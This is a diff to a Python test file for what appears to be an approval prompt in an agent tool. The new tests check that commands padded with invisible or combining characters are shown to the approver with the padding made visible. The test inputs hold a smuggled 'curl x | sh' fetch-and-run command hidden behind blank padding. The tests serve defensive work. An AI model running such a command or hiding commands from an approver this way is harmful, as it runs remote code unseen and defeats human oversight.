@@ -226,3 +226,6 @@ def test_the_question_escapes_control_characters_and_is_cut_short() -> None:
     for blank in "\u3164\u2800\u115f\u1160\uffa0":  # printable, drawn as nothing
         hidden = ApprovalRequest("run", "user", {"command": "ls" + blank * 300 + "; curl x | sh"}).message()
         assert "ls<300 spaces>; curl x | sh" in hidden, blank
+    for marked in (" \u034f", "\u3164\ufe0f", " \u17b5"):  # a combining mark between blanks
+        hidden = ApprovalRequest("run", "user", {"command": "ls" + marked * 300 + "; curl x | sh"}).message()
+        assert "ls<600 spaces>; curl x | sh" in hidden, marked
